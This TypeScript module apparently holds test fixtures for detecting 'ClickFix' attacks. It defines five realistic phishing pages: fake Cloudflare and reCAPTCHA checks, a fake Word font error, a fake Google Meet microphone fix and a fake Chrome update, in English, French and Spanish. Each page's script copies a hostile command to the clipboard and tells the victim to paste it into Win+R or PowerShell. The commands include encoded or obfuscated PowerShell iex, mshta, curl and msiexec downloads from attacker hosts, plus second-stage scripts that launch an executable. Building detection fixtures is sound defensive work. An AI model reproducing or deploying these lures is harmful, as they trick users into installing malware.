import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute, b64 } from '../parts/r-kit.js';
import { jsRoute, fileRoute } from '../parts/e-bin.js';

const psEnc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

export const entries: Entry[] = [
{
  id: 'r-clickfix-turnstile-winr-ps',
  label: 'clickfix',
  kind: 'fake-captcha',
  url: 'https://cdn-verify-human.com/cf/challenge?ray=8f2a1c9b3e',
  body: doc({ title: 'Just a moment...', css: `body{margin:0;font-family:-apple-system,system-ui,"Segoe UI",Roboto,sans-serif;color:#313131;background:#fff}.m{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}
.cb{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;padding:0 16px;margin:20px 0}.cb input{width:24px;height:24px}
.ov{display:none;position:fixed;inset:0;background:rgba(0,0,0,.55)}.dlg{background:#fff;width:520px;margin:12vh auto;padding:26px;border-radius:6px;box-shadow:0 4px 20px rgba(0,0,0,.3)}.dlg ol li{margin:10px 0}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-family:monospace}
.ft{font-size:12px;color:#666;text-align:center;margin-top:90px}` },
`<div class="m"><h1 style="font-size:2.5rem;font-weight:500">www.dailyfinance-news.com</h1><h2 style="font-size:1.5rem;font-weight:500">Verify you are human by completing the action below.</h2>
<div class="cb"><input type="checkbox" id="ck"><span>Verify you are human</span><small style="margin-left:auto;color:#f38020;font-weight:bold">CLOUDFLARE</small></div>
<p>www.dailyfinance-news.com needs to review the security of your connection before proceeding.</p></div>
<div class="ov" id="ov"><div class="dlg"><h3>Verification Steps</h3><ol>
<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<p style="font-size:13px;color:#555">Perform the steps above to finish verification.</p><p style="font-size:12px;color:#888">I am not a robot - reCAPTCHA Verification ID: 4721</p></div></div>
<div class="ft">Ray ID: <code>8f2a1c9b3e</code> · Performance &amp; security by Cloudflare</div>
<script>
var cmd='powershell -w hidden -ep bypass -enc ${psEnc("iex (iwr 'https://cdn-verify-human.com/cf/s.ps1' -UseBasicParsing).Content")}';
var tail=' # \\u2705 I am not a robot - reCAPTCHA Verification ID: 4721';
document.getElementById('ck').addEventListener('click',function(){
 var t=document.createElement('textarea');t.value=cmd+tail;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
 if(navigator.clipboard){navigator.clipboard.writeText(cmd+tail).catch(function(){});}
 document.getElementById('ov').style.display='block';});
</script>`),
  routes: { 'cdn-verify-human.com/cf/s.ps1': fileRoute("$u='https://cdn-verify-human.com/cf/update.zip';$p=\"$env:TEMP\\upd.zip\";iwr $u -OutFile $p;Expand-Archive $p \"$env:APPDATA\\upd\" -Force;Start-Process \"$env:APPDATA\\upd\\client32.exe\"", 'text/plain') },
},
{
  id: 'r-clickfix-word-font-error-dialog',
  label: 'clickfix',
  kind: 'fake-error',
  url: 'https://onedrive-docs-preview.com/view/Invoice_INV-55102.docx',
  body: doc({ title: 'Invoice_INV-55102.docx - Word', css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#e9e9e9}.rb{background:#2b579a;color:#fff;padding:8px 14px}.pg{width:640px;height:800px;margin:20px auto;background:#fff;padding:50px;color:#bbb;font-family:serif}
.er{position:fixed;top:20%;left:50%;transform:translateX(-50%);width:560px;background:#fff;border:1px solid #c00;box-shadow:0 6px 24px rgba(0,0,0,.35)}.er h3{background:#c42b1c;color:#fff;margin:0;padding:10px 14px;font-weight:600}
.er .c{padding:16px 18px;font-size:14px}button{background:#0f6cbd;color:#fff;border:0;padding:9px 18px;font-size:14px}code{background:#f3f3f3;display:block;padding:8px;font-size:12px;margin:8px 0}` },
`<div class="rb">Word · Invoice_INV-55102.docx · Read-only</div>
<div class="pg">▢▢▢▢▢ ▢▢▢ ▢▢▢▢▢▢▢ ▢▢▢▢ ▢▢▢▢▢ ▢▢▢▢▢▢ ▢▢▢▢ ▢▢▢▢▢▢▢ ▢▢▢ ▢▢▢▢▢ ▢▢▢▢▢</div>
<div class="er"><h3>⚠ Error: "Word Online" extension is not installed</h3><div class="c">
<p>The document cannot be displayed correctly because the font <b>"Aptos Display"</b> is missing from your system. To view the document, install the font package manually:</p>
<p>1. Click the <b>"How to fix"</b> button — the fix is copied to your clipboard.<br>2. Right-click the Start button and open <b>Windows PowerShell (Admin)</b> or <b>Terminal</b>.<br>3. Right-click inside the window to paste and press <b>Enter</b>.<br>4. Refresh this page.</p>
<button id="fx">How to fix</button> <button style="background:#ccc;color:#333" onclick="location.reload()">Retry</button><p id="ok" style="color:green;display:none">✔ Copied! Now paste it into PowerShell.</p></div></div>
<script>
var a=['$d=\\'https://onedrive-docs-preview.com/fonts/AptosDisplay.msi\\'','$o=\\"$env:TEMP\\\\fnt.msi\\"','(New-Object Net.WebClient).DownloadFile($d,$o)','msiexec /i $o /qn'];
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(a.join(';')+'; Clear-Host').then(function(){document.getElementById('ok').style.display='block';});};
</script>`),
},
{
  id: 'r-clickfix-meet-microphone-fix',
  label: 'clickfix',
  kind: 'fake-error',
  url: 'https://meet-google.join-call-room.com/xhk-qpwr-bdz',
  body: doc({ title: 'Meet – xhk-qpwr-bdz', css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.v{width:640px;height:360px;margin:60px auto 20px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}
.p{max-width:560px;margin:0 auto;background:#fff;color:#202124;border-radius:8px;padding:22px}button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 22px;font-weight:500}` },
`<div class="v">🎤✕ Camera and microphone are blocked</div>
<div class="p"><h3>There is a problem with your microphone and camera</h3><p>Your browser could not access the audio device (error code 0x80070005). Other participants can't hear you.</p>
<p><b>Fix:</b> click "Try fix", then press <b>Win + R</b>, paste (<b>Ctrl + V</b>) and press <b>Enter</b>. Rejoin the meeting afterwards.</p>
<button id="t">Try fix</button></div>
<script>
document.getElementById('t').addEventListener('click',function(){
 var c="mshta https://meet-google.join-call-room.com/dev/aud.hta #  Microsoft Windows: Audio Driver Fix (ID 0x80070005)";
 navigator.clipboard.writeText(c);this.textContent='Copied ✓';});
</script>`),
  routes: { 'meet-google.join-call-room.com/dev/aud.hta': fileRoute('<html><head><HTA:APPLICATION id="x" windowstate="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c iwr https://meet-google.join-call-room.com/dev/a.ps1|iex",0:window.close</script></head></html>', 'application/hta') },
},
{
  id: 'r-clickfix-captcha-fr-autocopy',
  label: 'clickfix',
  kind: 'fake-captcha',
  url: 'https://recettes-maison-faciles.fr/wp-content/themes/astra/verif.html',
  body: doc({ lang: 'fr', title: 'Vérification de sécurité', css: `body{font-family:Roboto,Arial,sans-serif;background:#f1f1f1;display:flex;justify-content:center;padding-top:12vh}.b{background:#fff;width:420px;padding:24px;border-radius:4px;box-shadow:0 2px 8px rgba(0,0,0,.15)}
.r{display:flex;align-items:center;gap:12px;border:1px solid #ddd;padding:14px}.r span{width:26px;height:26px;border:2px solid #aaa;display:inline-block;cursor:pointer}.st{display:none;background:#f7f9fc;border-left:4px solid #4285f4;padding:10px;margin-top:14px;font-size:14px}` },
`<div class="b"><h3>Êtes-vous un robot ?</h3><p style="font-size:14px">Nous avons détecté un trafic inhabituel depuis votre réseau. Veuillez effectuer la vérification ci-dessous pour continuer vers le site.</p>
<div class="r"><span id="x"></span> Je ne suis pas un robot <small style="margin-left:auto;font-size:10px;color:#888">reCAPTCHA</small></div>
<div class="st" id="st"><b>Étapes de vérification :</b><br>1. Appuyez sur la touche Windows <b>⊞ + R</b><br>2. Collez le code de vérification avec <b>CTRL + V</b><br>3. Appuyez sur <b>Entrée</b> pour terminer<br><small>ID de vérification : 618-204</small></div></div>
<script>
var v='cmd /c "curl -s -o %TEMP%\\\\v.bat https://recettes-maison-faciles.fr/wp-content/uploads/v.bat && %TEMP%\\\\v.bat"  :: Vérification humaine ✔ ID 618-204';
function cp(){try{navigator.clipboard.writeText(v)}catch(e){}}
document.addEventListener('click',cp,true);document.addEventListener('keydown',cp,true);
document.getElementById('x').onclick=function(){this.style.borderColor='#4285f4';this.innerHTML='⏳';setTimeout(function(){document.getElementById('st').style.display='block';},900);};
</script>`),
},
{
  id: 'r-clickfix-browser-update-terminal-es',
  label: 'clickfix',
  kind: 'fake-error',
  url: 'https://noticias-del-valle.com.mx/2025/11/actualizacion.php',
  body: doc({ lang: 'es', title: 'Actualización de Chrome necesaria', css: `body{margin:0;font-family:Arial,sans-serif;background:rgba(0,0,0,.6)}.bg{filter:blur(4px);padding:30px;background:#fff;height:100vh}.d{position:fixed;top:14%;left:50%;transform:translateX(-50%);width:540px;background:#fff;border-radius:8px;padding:28px;box-shadow:0 10px 40px rgba(0,0,0,.5)}
button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:11px 22px;font-size:15px}pre{background:#f1f3f4;padding:10px;font-size:12px;white-space:pre-wrap}` },
`<div class="bg"><h1>Noticias del Valle</h1><p>Últimas noticias de Monterrey y la región...</p></div>
<div class="d"><h2>⚠ Error al mostrar esta página</h2><p>Su navegador Google Chrome no pudo cargar el contenido correctamente (código: <b>STATUS_ACCESS_VIOLATION</b>). Es necesario instalar el certificado raíz actualizado.</p>
<p><b>Cómo solucionarlo:</b></p><ol><li>Haga clic en <b>"Copiar solución"</b>.</li><li>Pulse <b>Windows + X</b> y seleccione <b>Terminal (Administrador)</b>.</li><li>Pegue con clic derecho y pulse <b>Intro</b>.</li></ol>
<button id="c">Copiar solución</button></div>
<script>
var p=[112,111,119,101,114,115,104,101,108,108,32,45,110,111,112,32,45,99,32];var s=String.fromCharCode.apply(null,p)+'"$r=Invoke-RestMethod https://cert-update-cdn.org/r/root.txt; iex $r"';
document.getElementById('c').onclick=function(){navigator.clipboard.writeText(s);this.textContent='✔ Copiado';};
</script>`),
},
];
